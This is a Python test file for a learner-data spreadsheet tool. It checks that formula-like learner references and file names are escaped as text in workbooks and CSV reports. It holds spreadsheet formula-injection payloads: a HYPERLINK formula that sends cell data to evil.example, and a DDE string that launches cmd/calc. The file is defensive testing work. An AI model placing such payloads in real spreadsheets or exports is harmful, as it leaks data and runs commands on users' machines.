"""Learner text is data, never code: a learner reference that looks like a formula stays text in every file
we write (annotated copy, imported workbook, Rule Violation Report CSV, batch summary.csv)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from ilrkit.converter.io import load
from ilrkit.converter.textcells import FORMULA_START, SafeCsvWriter, quoted
from ilrkit.rules.engine import validate
from ilrkit.rules.report import as_csv
from ilrkit.rules.testing import build
from ilrkit.templates.workbook_writer import write_workbook

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&F3,"x")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A workbook whose first learner reference is the payload (and has errors, so it is reported)."""
    folder = tmp_path_factory.mktemp("hostile")
    data = build([{"LearnRefNumber": PAYLOAD, "ULN": "12", "aims": [{}]},
                  {"LearnRefNumber": "+SUM(1,2)", "aims": [{}]}])
    workbook = write_workbook(folder / "provider.xlsx", data=data)
    loaded = load(workbook)
    return workbook, loaded, validate(loaded)


def _formula_cells(wb, sheet: str) -> list[str]:
    return [c.coordinate for row in wb[sheet].iter_rows() for c in row if c.data_type == "f"]


def test_the_imported_workbook_holds_the_reference_as_text(hostile):
    workbook, _, _ = hostile
    ws = openpyxl.load_workbook(workbook)["Learners"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == PAYLOAD]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_annotated_copy_lists_it_as_text(hostile, tmp_path):
    from ilrkit.addin.annotate import annotate_workbook
    from ilrkit.addin.plan import ERRORS_SHEET

    workbook, _, report = hostile
    assert any(f.learn_ref == PAYLOAD for f in report.findings)
    out = annotate_workbook(workbook, tmp_path / "annotated.xlsx", report)
    wb = openpyxl.load_workbook(out)
    listed = [c for row in wb[ERRORS_SHEET].iter_rows() for c in row if c.value in (PAYLOAD, "+SUM(1,2)")]
    assert listed and all(c.data_type == "s" for c in listed)
    for sheet in wb.sheetnames:
        assert _formula_cells(wb, sheet) == [], f"formula cells on {sheet}"
    with zipfile.ZipFile(out) as z:  # no formula element anywhere in the package
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_cell_starts_a_formula(text: str) -> None:
    bad = [c for c in _cells(text) if c.startswith(FORMULA_START)]
    assert not bad, bad


def test_the_rule_violation_report_escapes_it(hostile):
    _, data, report = hostile
    text = as_csv(report, data)
    _no_cell_starts_a_formula(text)
    assert "'" + PAYLOAD in _cells(text) and "'+SUM(1,2)" in _cells(text)


def test_the_batch_summary_escapes_names_and_messages():
    from ilrkit.server.batch import Outcome, summary_csv

    text = summary_csv([Outcome("=cmd|' /C calc'!A0.xlsx", "unusable", message="-2+3 is not a workbook"),
                        Outcome("@SUM(A1).xlsx", "converted", learners=3, errors=0, warnings=0)])
    _no_cell_starts_a_formula(text)
    assert "'=cmd|' /C calc'!A0.xlsx" in _cells(text) and "3" in _cells(text)


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_escaped_once_and_other_values_are_not(start):
    assert quoted(start + "1") == "'" + start + "1"
    assert quoted("L0001") == "L0001" and quoted(7) == 7 and quoted(None) is None and quoted("") == ""
    buf = io.StringIO()
    SafeCsvWriter(buf, lineterminator="\r\n").writerow([start + "x", 5, "plain"])
    assert next(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == ["'" + start + "x", "5", "plain"]
